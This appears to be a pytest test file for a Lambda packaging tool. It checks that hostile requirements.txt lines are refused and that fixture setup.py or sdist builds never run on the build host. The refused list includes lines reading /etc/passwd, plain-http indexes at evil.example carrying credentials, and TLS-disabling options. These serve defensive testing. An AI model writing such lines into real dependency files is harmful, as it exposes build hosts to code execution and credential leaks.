"""#19.4: requirement files never run code on the build host, read host files or weaken transport.

Each hostile line is written into a real project's requirements.txt and must be refused with one
line naming the file and line (never the line's content: a canary in it must not appear). The
lines that are allowed go through a real uv install into the deps layer.
"""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile
from pathlib import Path

import pytest

from lambdaship.config import load_project
from lambdaship.errors import LambdashipError
from lambdaship.package import deps
from lambdaship.package.requirements import requirements_file
from tests.conftest import run_cli

CANARY = "canary-requirement-secret-9f2c"

REFUSED = {
    # building these runs their setup.py / build backend here
    "editable": ("-e ./pkg", "editable requirement"),
    "editable-long": ("--editable=./pkg", "editable requirement"),
    "editable-vcs": (f"-e git+https://example.com/{CANARY}.git#egg=x", "editable requirement"),
    "local-dir": ("./pkg", "local path requirement"),
    "local-parent": ("../outside", "local path requirement"),
    "local-abs": ("/usr/lib/python3", "local path requirement"),
    "name-at-file": (f"x @ file:///tmp/{CANARY}", "file:// requirement"),
    "file-url": ("file:///etc/passwd", "file:// requirement"),
    "vcs": (f"git+https://example.com/{CANARY}.git", "VCS requirement"),
    "name-at-vcs": (f"x @ git+https://example.com/{CANARY}", "VCS requirement"),
    "hg": ("hg+https://example.com/repo", "VCS requirement"),
    "sdist-url": (f"https://example.com/{CANARY}-1.0.tar.gz", "source archive by URL"),
    "http-wheel-url": ("http://evil.example/x-1.0-py3-none-any.whl", "plain http"),
    "ftp-url": ("ftp://evil.example/x-1.0-py3-none-any.whl", "unsupported URL scheme"),
    # transports and hosts
    "index-http": (f"--index-url http://user:{CANARY}@evil.example/simple", "plain http to evil.example"),
    "index-short": ("-ihttp://evil.example/simple", "plain http"),
    "extra-index-http": ("--extra-index-url http://evil.example/simple", "plain http"),
    "index-file": ("--index-url file:///srv/index", "must be an https:// URL"),
    "trusted-host": ("--trusted-host evil.example", "TLS verification off"),
    "find-links-root": ("-f file:///", "outside the project"),
    "find-links-abs": ("--find-links /tmp", "outside the project"),
    "find-links-parent": ("--find-links=../wheels", "outside the project"),
    "find-links-http": ("--find-links http://evil.example/wheels", "plain http"),
    # build options
    "no-binary": ("--no-binary :all:", "build from source"),
    "install-option": ("six==1.16.0 --install-option=--prefix=/tmp", "per-requirement option '--install-option'"),
    "global-option": ("--global-option=build_ext", "option '--global-option' is not allowed"),
    "config-settings": ("--config-settings=editable_mode=compat", "option '--config-settings' is not allowed"),
    "pep517": ("--use-pep517", "option '--use-pep517' is not allowed"),
    "no-build-isolation": ("--no-build-isolation", "option '--no-build-isolation'"),
    "src": ("--src /tmp/src", "option '--src' is not allowed"),
    # includes that leave the project
    "include-abs": ("-r /etc/passwd", "is outside the project"),
    "constraint-parent": ("-c ../../constraints.txt", "is outside the project"),
    "include-missing": ("-r nothere.txt", "not found"),
    "continuation": ("six==1.16.0 \\\n  --install-option=--x", "per-requirement option"),
}


def _project(tmp_path: Path, requirements: str) -> Path:
    app = tmp_path / "proj"
    app.mkdir(exist_ok=True)
    (app / "main.py").write_text("def handler(event, context):\n    return 1\n")
    (app / "lambdaship.toml").write_text('function_name = "req"\nhandler = "main.handler"\n')
    (app / "requirements.txt").write_text(requirements)
    (app / "pkg").mkdir(exist_ok=True)
    (app / "pkg" / "setup.py").write_text(f"open({str(tmp_path / 'RAN')!r}, 'w').write('x')\n")
    return app


@pytest.mark.parametrize("case", sorted(REFUSED), ids=sorted(REFUSED))
def test_hostile_line_is_refused_in_one_line(case: str, tmp_path: Path) -> None:
    line, expected = REFUSED[case]
    app = _project(tmp_path, f"six==1.16.0\n{line}\n")
    with pytest.raises(LambdashipError) as info:
        requirements_file(load_project(app).function())
    text = f"{info.value} {info.value.hint or ''}"
    assert expected in text, text
    assert "requirements.txt" in text
    assert CANARY not in text and "\n" not in str(info.value)


def test_editable_requirement_runs_nothing_and_writes_nothing(base_image_ref: str, tmp_path: Path) -> None:
    """``-e ./pkg``: setup.py would run on this machine and leave pkg.egg-info in the tree."""
    app = _project(tmp_path, "-e ./pkg\n")
    before = sorted(p.relative_to(app).as_posix() for p in app.rglob("*"))
    r = run_cli("build", "-C", str(app), "--base-image", base_image_ref,
                env={"LAMBDASHIP_HOME": str(tmp_path / "home")})
    assert r.returncode == 1
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: requirements.txt:1: editable"), r.stderr
    assert "Traceback" not in r.stderr
    assert not (tmp_path / "RAN").exists(), "setup.py ran on the build host"
    assert sorted(p.relative_to(app).as_posix() for p in app.rglob("*")) == before  # no *.egg-info


def test_requirements_symlinked_out_of_the_project_is_refused_unread(tmp_path: Path) -> None:
    app = _project(tmp_path, "")
    outside = tmp_path / "outside.txt"
    outside.write_text(f"{CANARY}==1.0\n")
    (app / "requirements.txt").unlink()
    (app / "requirements.txt").symlink_to(outside)
    with pytest.raises(LambdashipError) as info:
        requirements_file(load_project(app).function())
    assert "outside the project" in str(info.value) and CANARY not in str(info.value)


def _wheel(dest: Path, name: str = "tinypkg", ver: str = "1.0") -> Path:
    """A minimal pure-Python wheel, written by hand (no build backend runs)."""
    files = {
        f"{name}/__init__.py": b"VALUE = 'from the vendored wheel'\n",
        f"{name}-{ver}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {ver}\n".encode(),
        f"{name}-{ver}.dist-info/WHEEL": (b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
                                          b"Tag: py3-none-any\n"),
    }
    record = []
    for arc, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{arc},sha256={digest},{len(data)}")
    record.append(f"{name}-{ver}.dist-info/RECORD,,")
    files[f"{name}-{ver}.dist-info/RECORD"] = ("\n".join(record) + "\n").encode()
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / f"{name}-{ver}-py3-none-any.whl"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for arc, data in files.items():
            zf.writestr(arc, data)
    path.write_bytes(buf.getvalue())
    return path


ALLOWED = {
    "https-index": "--index-url https://pypi.org/simple\nsix==1.16.0\n",
    "find-links-dir": "--find-links ./wheels\ntinypkg==1.0\nsix==1.16.0\n",
    "local-wheel": "./wheels/tinypkg-1.0-py3-none-any.whl\nsix==1.16.0 --hash=sha256:"
                   "8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254\n",
    "flags": "--prefer-binary\n--only-binary :all:\n--pre\nsix==1.16.0  # a comment\n",
}


@pytest.mark.slow
@pytest.mark.parametrize("case", sorted(ALLOWED), ids=sorted(ALLOWED))
def test_allowed_lines_install_with_real_uv(case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LAMBDASHIP_HOME", str(tmp_path / "home"))
    app = _project(tmp_path, ALLOWED[case])
    _wheel(app / "wheels")
    result = deps.install(load_project(app).function())
    assert "six==1.16.0" in result.requirements, result.requirements
    if "tinypkg" in ALLOWED[case]:
        assert "tinypkg==1.0" in result.requirements
        assert (Path(result.path) / "tinypkg" / "__init__.py").is_file()
    assert not (tmp_path / "RAN").exists()


def _sdist(dest: Path, marker: Path, name: str = "hostilesdist") -> None:
    """An sdist whose setup.py leaves a marker when anything builds it."""
    import tarfile

    files = {
        f"{name}-1.0/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{name}-1.0/setup.py": f"open({str(marker)!r}, 'w').write('built')\n"
                                f"from setuptools import setup\nsetup(name={name!r}, version='1.0')\n",
    }
    dest.mkdir(parents=True, exist_ok=True)
    with tarfile.open(dest / f"{name}-1.0.tar.gz", "w:gz") as tar:
        for arc, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(arc)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


@pytest.mark.parametrize("target", ["lambda", "host"])
def test_sdist_is_never_built_on_this_machine_for_either_target(
    target: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The host tree (serve's fallback without namespaces) installs wheels only, like the Lambda tree."""
    monkeypatch.setenv("LAMBDASHIP_HOME", str(tmp_path / "home"))
    marker = tmp_path / "BUILT"
    app = _project(tmp_path, "--no-index\n--find-links ./dist\nhostilesdist==1.0\n")
    _sdist(app / "dist", marker)
    with pytest.raises(LambdashipError) as info:
        deps.install(load_project(app).function(), target=target)  # type: ignore[arg-type]
    assert "hostilesdist" in str(info.value)
    assert not marker.exists(), "the sdist's setup.py ran on the build host"


@pytest.mark.parametrize("dependency", [f"x @ git+https://example.com/{CANARY}", "y @ file:///etc", "z @ ../outside"])
def test_pyproject_dependencies_obey_the_same_rules(dependency: str, tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LAMBDASHIP_HOME", str(tmp_path / "home"))
    app = tmp_path / "proj"
    app.mkdir()
    (app / "main.py").write_text("def handler(event, context):\n    return 1\n")
    (app / "pyproject.toml").write_text(
        f'[project]\nname = "x"\nversion = "1"\ndependencies = ["six==1.16.0", "{dependency}"]\n'
        '[tool.lambdaship]\nfunction_name = "p"\nhandler = "main.handler"\n')
    with pytest.raises(LambdashipError) as info:
        requirements_file(load_project(app).function())
    assert "\n" not in str(info.value) and CANARY not in str(info.value)
